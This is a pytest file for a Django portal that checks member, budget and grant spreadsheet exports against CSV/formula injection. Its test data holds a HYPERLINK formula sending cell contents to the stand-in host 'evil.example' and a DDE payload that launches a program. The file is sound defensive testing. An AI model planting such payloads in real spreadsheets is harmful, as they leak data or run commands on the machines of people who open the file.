"""Spreadsheet exports never turn what people typed into a live formula (OWASP CSV injection):
a member's name, a budget line's label or a grant's title starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is written as text behind a single quote, read back through the very
download URL a user clicks."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cpts_portal.lib.spreadsheets import safe_cell, safe_row
from funding.models import BudgetLine, Grant
from governance.models import Member

pytestmark = pytest.mark.django_db

PIC = "pic-saint-loup"
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
HOSTILES = [HOSTILE, "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+33 6", "'+33 6"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Dupont", "Dupont"),
        ("", ""),
        (-12.5, -12.5),
        (None, None),
    ],
)
def test_safe_cell_neutralises_text_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


def test_safe_row_keeps_negative_amounts_as_numbers():
    assert safe_row(["=1+1", -3, 4.5]) == ["'=1+1", -3, 4.5]


def _hostile_members(project):
    members = list(Member.objects.filter(project=project).order_by("pk")[: len(HOSTILES)])
    for member, hostile in zip(members, HOSTILES, strict=False):
        member.last_name = hostile
        member.structure_name = hostile
        member.phone = "+33 6 12 34 56 78"
        member.save()
    return members


def test_member_exports_write_hostile_names_as_text(demo, login):
    _hostile_members(demo["projects"][PIC])
    client = login(demo["users"]["claire.martin"])
    url = reverse("governance:member-export", args=[PIC])

    xlsx = client.get(url, {"format": "xlsx"})
    text = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")

    assert xlsx.status_code == 200
    cells = _cells(xlsx.content)
    assert all(cell.data_type != "f" for cell in cells)
    # A carriage return reads back as a line feed, or as itself when openpyxl writes with lxml
    # (installed with python-docx): compare both as line feeds.
    values = {
        cell.value.replace("\r", "\n") if isinstance(cell.value, str) else cell.value
        for cell in cells
    }
    for hostile in HOSTILES:
        assert ("'" + hostile).replace("\r", "\n") in values
    assert "'+33 6 12 34 56 78" in values
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    fields = [field for row in rows for field in row]
    for hostile in HOSTILES:
        assert "'" + hostile in fields
        assert hostile not in fields
    assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in fields)


def test_budget_export_writes_hostile_labels_as_text_and_amounts_as_numbers(demo, login):
    project = demo["projects"][PIC]
    line = BudgetLine.objects.filter(budget__project=project).order_by("pk").first()
    line.label = HOSTILE
    line.save()
    grant = Grant.objects.filter(project=project).order_by("pk").first()
    grant.funder, grant.title = "@Région", "-cmd|' /C calc'!A0"
    grant.save()
    client = login(demo["users"]["claire.martin"])

    response = client.get(reverse("funding:budget-xlsx", args=[PIC]))

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    detail = [cell.value for row in workbook["Détail des lignes"].iter_rows() for cell in row]
    grants = [cell for row in workbook["Autres financements"].iter_rows() for cell in row]
    assert "'" + HOSTILE in detail
    assert "'@Région" in [c.value for c in grants]
    assert "'-cmd|' /C calc'!A0" in [c.value for c in grants]
    assert all(
        cell.data_type != "f"
        for row in workbook["Détail des lignes"].iter_rows(max_col=4)
        for cell in row
    )
    assert all(c.data_type != "f" for c in grants)
    amounts = [row[4].value for row in workbook["Détail des lignes"].iter_rows(min_row=2)]
    assert amounts and all(isinstance(amount, int | float) for amount in amounts)
    # The totals the treasurer reworks stay formulas (the portal's own, not typed text).
    assert any(c.data_type == "f" for c in _cells(response.content))


def test_an_exported_member_reads_back_through_the_import(demo):
    from governance.imports import parse_members

    exported = "nom;prénom;profession;téléphone\n'-Dupont;Anne;infirmière;'+33 4 67 00 00 00\n"

    preview = parse_members(exported.encode(), project=demo["projects"][PIC])

    assert preview.errors == []
    assert preview.rows[0]["last_name"] == "-Dupont"
    assert preview.rows[0]["phone"] == "+33 4 67 00 00 00"
